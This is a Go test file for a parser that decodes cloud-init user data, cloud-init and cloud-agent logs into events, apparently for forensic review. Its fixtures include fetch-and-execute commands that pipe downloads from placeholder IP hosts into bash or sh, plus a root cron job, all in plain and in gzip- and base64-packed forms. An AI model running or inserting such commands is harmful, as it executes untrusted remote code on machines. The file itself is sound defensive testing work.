package guest

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"fmt"
	"net/netip"
	"reflect"
	"strings"
	"testing"

	"tidewaiter/event"
	"tidewaiter/source"
	"tidewaiter/source/sourcetest"
)

const script = "#!/bin/bash\n# comment\nset -x\ncurl -fsSL http://203.0.113.171/p \\\n  | bash\nexport TOKEN=abc123\n"

func squeezed(s string) string {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	if _, err := w.Write([]byte(s)); err != nil {
		panic(err)
	}
	if err := w.Close(); err != nil {
		panic(err)
	}
	return b.String()
}

func in64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

const config = `#cloud-config
packages: [curl, [nginx, 1.2]]
bootcmd:
  - echo early
runcmd:
  - [sh, -c, "curl http://203.0.113.9/x | sh"]
  - systemctl start app
write_files:
  - path: /etc/cron.d/x
    content: "* * * * * root id"
  - {path: /opt/y, source: {uri: "https://b.example/y"}}
yum_repos: {r: {baseurl: "http://r.example/"}}
password: hunter2
`

func archive() string {
	return "From nobody Sat Nov 21 22:26:40 2026\nContent-Type: multipart/mixed; boundary=\"B\"\nMIME-Version: 1.0\n\n--B\nContent-Type: text/cloud-config\nContent-Disposition: attachment; filename=\"cfg.yaml\"\n\n" + config +
		"\n--B\nContent-Type: text/x-shellscript\nContent-Transfer-Encoding: base64\n\n" + in64(script) + "\n--B\nContent-Type: application/octet-stream\nContent-Transfer-Encoding: base64\nContent-Disposition: attachment; filename=\"packed\"\n\n" + in64(squeezed("#include\nhttps://u:p@b.example/more\n")) + "\n--B--\n"
}

func packings() map[string]string {
	return map[string]string{
		"plain": script, "compressed": squeezed(script), "base64": in64(script), "compressed in base64": in64(squeezed(script)), "base64 of base64": in64(in64(script)), "base64 in lines": strings.Join(strings.SplitAfter(in64(script), "a"), "\n"),
		"one MIME part": "MIME-Version: 1.0\nContent-Type: text/x-shellscript\n\n" + script,
	}
}

func TestUserDataPackings(t *testing.T) {
	for name, text := range packings() {
		events, tally := sourcetest.Decode(t, UserData(), text)
		if len(events) != 1 || tally.Unreadable != 0 {
			t.Errorf("%s: %d events, %v", name, len(events), tally.Faults)
			continue
		}
		b := events[0].Body.(*event.GuestScript)
		want := []string{"set -x", "curl -fsSL http://203.0.113.171/p   | bash", "export TOKEN=<redacted>"}
		if b.Stage != event.GuestStored || b.Type != "text/x-shellscript" || !reflect.DeepEqual(b.Commands, want) || b.Size != int64(len(script)) || len(b.SHA256) != 64 || strings.Contains(b.Text, "abc123") || !events[0].Time.IsZero() {
			t.Errorf("%s: %+v", name, b)
		}
		if sourcetest.Sniff(UserData(), text) < 20 && !strings.HasPrefix(text, "\x1f\x8b") { // the file reader unpacks
			t.Errorf("%s: not recognised", name)
		}
	}
}

func TestUserDataArchive(t *testing.T) {
	for _, text := range []string{archive(), in64(archive()), squeezed(archive())} {
		events, tally := sourcetest.Decode(t, UserData(), text)
		if len(events) != 3 || tally.Unreadable != 0 || tally.Beside != 2 {
			t.Fatalf("%d events, %+v", len(events), tally)
		}
		cfg, sh, inc := events[0].Body.(*event.GuestScript), events[1].Body.(*event.GuestScript), events[2].Body.(*event.GuestScript)
		if cfg.Name != "cfg.yaml" || cfg.Type != "text/cloud-config" || !reflect.DeepEqual(cfg.Commands, []string{"echo early", "sh -c 'curl http://203.0.113.9/x | sh'", "systemctl start app"}) ||
			!reflect.DeepEqual(cfg.Packages, []string{"curl", "nginx"}) || !reflect.DeepEqual(cfg.Writes, []string{"/etc/cron.d/x", "/opt/y"}) || !reflect.DeepEqual(cfg.Downloads, []string{"https://b.example/y", "http://r.example/"}) || strings.Contains(cfg.Text, "hunter2") {
			t.Errorf("%+v", cfg)
		}
		if sh.Name != "part-002" || len(sh.Commands) != 3 {
			t.Errorf("%+v", sh)
		}
		if inc.Name != "packed" || inc.Type != "text/x-include-url" || !reflect.DeepEqual(inc.Downloads, []string{"https://<redacted>b.example/more"}) {
			t.Errorf("%+v", inc)
		}
	}
}

func TestUserDataOfOtherKinds(t *testing.T) {
	for text, want := range map[string]event.GuestScript{
		"<powershell>\nStart-Process x.exe\n</powershell>\n<persist>true</persist>":                                                      {Type: "text/x-powershell", Agent: "ec2launch", Commands: []string{"Start-Process x.exe", "true"}},
		"#cloud-boothook\n#!/bin/sh\nid\n":                                                                                               {Type: "text/cloud-boothook", Agent: "cloud-init", Commands: []string{"id"}},
		"## template: jinja\n#cloud-config\nruncmd: [id]\n":                                                                              {Type: "text/cloud-config", Agent: "cloud-init", Commands: []string{"id"}},
		"#cloud-config-archive\n- type: text/x-shellscript\n  filename: a.sh\n  content: |\n    #!/bin/sh\n    id\n":                     {Type: "text/x-shellscript", Name: "a.sh", Agent: "cloud-init", Commands: []string{"id"}},
		"#!/bin/sh\nmysql --password=geheim -h db\ncurl -H 'Authorization: Bearer abc' x\n":                                              {Type: "text/x-shellscript", Agent: "cloud-init", Commands: []string{"mysql --password=<redacted> -h db", "curl -H 'Authorization: Bearer <redacted>' x"}},
		"#cloud-config\nssh_keys:\n  rsa_private: |\n    -----BEGIN RSA PRIVATE KEY-----\n    AAAA\n    -----END RSA PRIVATE KEY-----\n": {Type: "text/cloud-config", Agent: "cloud-init"},
	} {
		events, tally := sourcetest.Decode(t, UserData(), text)
		if len(events) != 1 {
			t.Errorf("%q: %d events, %v", text, len(events), tally.Faults)
			continue
		}
		b := events[0].Body.(*event.GuestScript)
		if b.Type != want.Type || b.Agent != want.Agent || b.Name != want.Name || !reflect.DeepEqual(b.Commands, want.Commands) || strings.Contains(b.Text, "AAAA") || strings.Contains(b.Text, "geheim") {
			t.Errorf("%q: %+v", text, b)
		}
	}
	for text, fault := range map[string]string{
		"hello": "no user data", "#cloud-config\n\ta: b": "cloud-config", "\x1f\x8bxx": "read gzip", "Content-Type: multipart/mixed\n\nx": "no boundary", "MIME-Version: 1.0\n\nx": "Content-Type",
		nested(9): "too many archives",
	} {
		d := UserData()
		if _, tally := sourcetest.Feed(d, [][]byte{[]byte(text)}); len(tally.Faults) != 1 || !strings.Contains(tally.Faults[0].Error(), fault) {
			t.Errorf("%.40q: %v, want %q", text, tally.Faults, fault)
		}
	}
	if events, _ := sourcetest.Feed(UserData(), [][]byte{[]byte("#!/bin/sh\n" + strings.Repeat("x", 200<<10))}); len(events) != 1 || !events[0].Body.(*event.GuestScript).Truncated {
		t.Error("a long script is not cut")
	}
}

func nested(n int) string {
	s := script
	for range n {
		s = squeezed(s)
	}
	return s
}

func stage(name, at, up string) string {
	return "Cloud-init v. 24.1.3 running '" + name + "' at " + at + ". Up " + up + " seconds.\n"
}

const (
	mon  = "Sat, 21 Nov 2026 22:26:40 +0000"
	mon5 = "Sat, 21 Nov 2026 22:26:45 +0000"
	mon9 = "Sat, 21 Nov 2026 22:26:49 +0000"
	done = "Cloud-init v. 24.1.3 finished at " + mon9 + ". Datasource DataSourceEc2Local.  Up 19.00 seconds\n"
)

func outputLog() string {
	return stage("init-local", mon, "10.00") + stage("init", mon, "11.00") + "ci-info: ++++Net device info++++\nci-info: |  ens5  | True |   10.77.0.10      |  255.255.255.0  | global | 66:2A:e1:19:d4:e1 |\nci-info: |   lo   | True |   127.0.0.1 | 255.0.0.0 | host | . |\n" +
		stage("modules:final", mon5, "15.00") + "running /var/lib/cloud/instance/scripts/part-001\n+ curl -fsSL http://203.0.113.171/p\n  % Total    % Received\nFailed running /var/lib/cloud/instance/scripts/part-001 [127]\n" + done
}

func TestOutputLog(t *testing.T) {
	events, tally := sourcetest.Decode(t, CloudInit(), outputLog())
	if len(events) != 5 || tally.Unreadable != 0 {
		t.Fatalf("%d events, %+v", len(events), tally)
	}
	at := event.Time{At: 1795300000 * event.Second, Res: event.Second}
	between := event.Time{At: at.At + 5*event.Second, Res: 5 * event.Second}
	const part = "/var/lib/cloud/instance/scripts/part-001"
	for i, w := range []struct {
		at   event.Time
		body event.GuestScript
	}{
		{at, event.GuestScript{Stage: event.GuestBoot, Name: "init-local", Boot: event.Time{At: at.At - 10*event.Second, Res: event.Second}, Addrs: []netip.Addr{netip.MustParseAddr("10.77.0.10")}, Ethernet: []string{"66:2a:e1:19:d4:e1"}}},
		{between, event.GuestScript{Stage: event.GuestRun, Name: part, Commands: []string{part}}},
		{between, event.GuestScript{Stage: event.GuestTraced, Commands: []string{"curl -fsSL http://203.0.113.171/p"}, Downloads: []string{"http://203.0.113.171/p"}}},
		{between, event.GuestScript{Stage: event.GuestExit, Name: part, ExitCode: 127}},
		{event.Time{At: at.At + 9*event.Second, Res: event.Second}, event.GuestScript{Stage: event.GuestDone, Name: "DataSourceEc2Local", Boot: event.Time{At: at.At - 10*event.Second, Res: event.Second}}},
	} {
		w.body.Agent = "cloud-init"
		sourcetest.CheckEvent(t, events[i], w.at, &w.body)
	}
	twice, _ := sourcetest.Decode(t, CloudInit(), outputLog()+strings.ReplaceAll(outputLog(), "22:26", "23:26"))
	if len(twice) != 10 || twice[0].ID == twice[5].ID || twice[2].ID == twice[7].ID {
		t.Errorf("two boots: %d events", len(twice))
	}
	open, _ := sourcetest.Decode(t, CloudInit(), stage("modules:final", mon, "1")+"+ id\n")
	if len(open) != 2 || open[0].Time.Res != openStage {
		t.Errorf("a stage without an end: %+v", open)
	}
}

func TestInitLog(t *testing.T) {
	at := event.Time{At: 1795300000_123 * event.Millisecond, Res: event.Millisecond}
	run := func(name, id string, pid int, commands ...string) *event.GuestScript {
		return &event.GuestScript{Stage: event.GuestRun, Agent: "cloud-init", Name: name, Instance: id, PID: pid, Commands: commands}
	}
	const part = "/var/lib/cloud/instance/scripts/part-001"
	for _, c := range []struct {
		why, text string
		want      sourcetest.Want
	}{
		{"a list", "2026-11-21 22:26:40,123 - subp.py[DEBUG]: Running command ['" + part + "'] with allowed return codes [0] (shell=False, capture=False)", sourcetest.Want{At: at, Body: run(part, "", 0, part)}},
		{"quotes", `2026-11-21 22:26:40,123 - subp.py[DEBUG]: Running command ['sh', "-c", b'it\'s\n'] with allowed return codes [0]`, sourcetest.Want{At: at, Body: run("", "", 0, `sh -c 'it'\''s`+"\n'")}},
		{"a text", "2026-11-21 22:26:40,123 - util.py[DEBUG]: Running command lsblk with allowed return codes [0]", sourcetest.Want{At: at, Body: run("", "", 0, "lsblk")}},
		{"through syslog", "2026-11-21T22:26:40.123+00:00 web-1 cloud-init[812]: 2026-11-21 22:26:40,123 - util.py[DEBUG]: Running command lsblk", sourcetest.Want{}},
		{"journald's times", "2026-11-21T22:26:40.123+0000 web-1 cloud-init[812]: [CLOUDINIT] util.py[DEBUG]: Running command lsblk", sourcetest.Want{At: at, Body: run("", "", 812, "lsblk")}},
		{"a module", "2026-11-21 22:26:40,123 - modules.py[DEBUG]: Running module package_update_upgrade_install (<module 'x'>) with frequency once-per-instance", sourcetest.Want{At: at, Body: run("package-update-upgrade-install", "", 0)}},
		{"another module", "2026-11-21 22:26:40,123 - modules.py[DEBUG]: Running module locale (<module 'x'>)", sourcetest.Want{}},
		{"the instance", "2026-11-21 22:26:40,000 - util.py[DEBUG]: Creating symbolic link from '/var/lib/cloud/instance' => '/var/lib/cloud/instances/i-0a1'\n2026-11-21 22:26:40,123 - util.py[DEBUG]: Running command lsblk", sourcetest.Want{At: at, Body: run("", "i-0a1", 0, "lsblk")}},
		{"a MIME dictionary", `2026-11-21 22:26:40,123 - __init__.py[DEBUG]: {'MIME-Version': '1.0', 'Content-Type': 'text/x-shellscript', 'Content-Disposition': 'attachment; filename="part-001"'}`, sourcetest.Want{}},
		{"no time", "Nov 21 22:26:40 web-1 [CLOUDINIT] util.py[DEBUG]: Running command lsblk", sourcetest.Want{Fault: "no time"}},
		{"a bad time", "Cloud-init v. 1 running 'init' at Xat, 21 Nov 2026 22:26:40 +0000. Up 1.00 seconds.", sourcetest.Want{Fault: "time of the stage"}},
	} {
		if c.why == "through syslog" {
			events, _ := sourcetest.Decode(t, CloudInit(), c.text)
			if len(events) != 1 || events[0].Place.Host != "web-1" || events[0].Body.(*event.GuestScript).PID != 812 {
				t.Errorf("%s: %+v", c.why, events)
			}
			continue
		}
		t.Run(c.why, func(t *testing.T) { sourcetest.Check(t, CloudInit(), c.text, c.want) })
	}
}

func agentLines() map[string]string {
	return map[string]string{
		"google":          "2026-11-21T22:26:40.123456+00:00 vm-1 google_metadata_script_runner[812]: startup-script: + curl http://203.0.113.9/x\n",
		"google exit":     "2026-11-21T22:26:40.123456Z vm-1 google_metadata_script_runner[812]: startup-script exit status 1\n",
		"journald":        `{"__REALTIME_TIMESTAMP":"1795300000123456","_HOSTNAME":"vm-1","SYSLOG_IDENTIFIER":"google_metadata_script_runner","_PID":"812","MESSAGE":"Found startup-script-url in metadata."}` + "\n",
		"waagent":         "2026-11-21T22:26:40.123456Z INFO ExtHandler [Microsoft.Azure.Extensions.CustomScript-2.1.10] Command: bin/custom-script-shim enable\n",
		"custom script":   `time=2026-11-21T22:26:40.123456Z version=v2.1.10 operation=enable seq=0 event="executing command" output=/var/lib/waagent/custom-script/download/0` + "\n",
		"custom download": `time=2026-11-21T22:26:40.123456Z version=v2.1.10 operation=enable seq=0 event="downloading file" file=https://b.example/x.sh` + "\n",
	}
}

func TestAgents(t *testing.T) {
	at := event.Time{At: 1795300000_123456 * event.Microsecond, Res: event.Microsecond}
	const runner = "google-metadata-script-runner"
	for name, want := range map[string]*event.GuestScript{
		"google":          {Stage: event.GuestTraced, Agent: runner, Name: "startup-script", PID: 812, Commands: []string{"curl http://203.0.113.9/x"}, Downloads: []string{"http://203.0.113.9/x"}},
		"google exit":     {Stage: event.GuestExit, Agent: runner, Name: "startup-script", PID: 812, ExitCode: 1},
		"journald":        {Stage: event.GuestRun, Agent: runner, Name: "startup-script-url", PID: 812},
		"waagent":         {Stage: event.GuestRun, Agent: "waagent", Name: "Microsoft.Azure.Extensions.CustomScript-2.1.10", Commands: []string{"bin/custom-script-shim enable"}},
		"custom script":   {Stage: event.GuestRun, Agent: "azure-custom-script", Name: "/var/lib/waagent/custom-script/download/0"},
		"custom download": {Stage: event.GuestRun, Agent: "azure-custom-script", Name: "CustomScript", Downloads: []string{"https://b.example/x.sh"}},
	} {
		text := agentLines()[name]
		sourcetest.Check(t, Agents(), text, sourcetest.Want{At: at, Body: want})
		if sourcetest.Sniff(Agents(), text) < 70 {
			t.Errorf("%s: not recognised", name)
		}
	}
	sourcetest.Check(t, Agents(), "Nov 21 22:26:40 vm-1 google_metadata_script_runner[812]: startup-script exit status 0", sourcetest.Want{Fault: "no time with its year"})
	sourcetest.Check(t, Agents(), "2026/11/21 22:26:40 GCEMetadataScripts: Starting startup scripts (version 1).", sourcetest.Want{Fault: "no time with its year"})
	sourcetest.Check(t, Agents(), "2026-11-21T22:26:40Z vm-1 sshd[1]: + x", sourcetest.Want{})
	sourcetest.Check(t, Agents(), `{"MESSAGE":1,"MESSAGE":2}`, sourcetest.Want{Fault: "key stands twice"})
}

func TestLogsAreRecognised(t *testing.T) {
	for text, want := range map[string]*source.Format{outputLog(): CloudInit(), "2026-11-21 22:26:40,123 - util.py[DEBUG]: x\n": CloudInit(), config: UserData(), archive(): UserData(), script: UserData()} {
		for _, f := range []*source.Format{CloudInit(), UserData(), Agents()} {
			if sure := sourcetest.Sniff(f, text); (sure > 0) != (f.Name == want.Name) {
				t.Errorf("%.40q: %s is sure by %d", text, f.Name, sure)
			}
		}
	}
	if sourcetest.Sniff(UserData(), "#include <stdio.h>\nint main() {}\n") != 0 {
		t.Error("a program in C is taken for user data")
	}
}

func anyScript(b event.Body) bool {
	s, ok := b.(*event.GuestScript)
	return ok && s.Stage == event.GuestStored
}

func checkScript(t *testing.T, e event.Event) {
	if b, ok := e.Body.(*event.GuestScript); ok && (len(b.Text) > 2*maxText || len(b.Commands) > maxCommands || b.Stage == "") {
		t.Fatalf("%+v", b)
	}
}

func FuzzUserData(f *testing.F) {
	for _, text := range packings() {
		f.Add([]byte(text))
	}
	f.Add([]byte(archive()))
	f.Add([]byte(config))
	f.Add([]byte("#cloud-config-archive\n- type: text/x-shellscript\n  content: id\n- '#include'\n"))
	sourcetest.Fuzz(f, UserData(), anyScript, checkScript)
}

func FuzzCloudInit(f *testing.F) {
	f.Add([]byte(outputLog()))
	f.Add([]byte("2026-11-21 22:26:40,123 - subp.py[DEBUG]: Running command ['a', \"b\", b'c\\n'] with allowed return codes [0]"))
	f.Add([]byte("Nov 21 22:26:40 web-1 [CLOUDINIT] util.py[DEBUG]: Running module runcmd ("))
	sourcetest.Fuzz(f, CloudInit(), nil, checkScript)
}

func FuzzAgents(f *testing.F) {
	for _, text := range agentLines() {
		f.Add([]byte(text))
	}
	sourcetest.Fuzz(f, Agents(), nil, checkScript)
}

func BenchmarkGuest(b *testing.B) {
	sourcetest.Bench(b, CloudInit(), sourcetest.Fill(stage("init-local", mon, "10.00"), func(n int64) string {
		return fmt.Sprintf("2026-11-21 22:26:40,%03d - subp.py[DEBUG]: Running command ['lsblk', '%d'] with allowed return codes [0] (shell=False, capture=False)\n", n%1000, n) +
			strings.Repeat("2026-11-21 22:26:40,123 - util.py[DEBUG]: Reading from /etc/os-release (quiet=True)\n", 9)
	}))
	sourcetest.Bench(b, Agents(), sourcetest.Fill("", func(n int64) string {
		return strings.Replace(agentLines()["google"], "123456", fmt.Sprintf("%06d", n%1000000), 1) + strings.Repeat("2026-11-21T22:26:40.123456+00:00 vm-1 google_guest_agent[1]: nothing\n", 9)
	}))
	text := []byte(archive())
	b.Run("user-data/decode", func(b *testing.B) {
		b.SetBytes(int64(len(text)))
		b.ReportAllocs()
		for b.Loop() {
			if events, tally := sourcetest.Feed(UserData(), [][]byte{text}); len(events) != 3 {
				b.Fatal(tally.Faults)
			}
		}
	})
}

// TestShared reads guests' logs outside the repository without loss.
func TestShared(t *testing.T) {
	stages := map[event.GuestStage]int{}
	files := sourcetest.SharedFiles(t, "scenarios", func(p string) bool {
		return strings.HasSuffix(p, "cloud-init-output.log") || strings.HasSuffix(p, "user-data.txt")
	})
	for _, path := range files {
		for _, e := range sourcetest.ReadShared(t, path, CloudInit(), UserData(), Agents()) {
			stages[e.Body.(*event.GuestScript).Stage]++
		}
	}
	t.Logf("%d files, %v", len(files), stages)
}
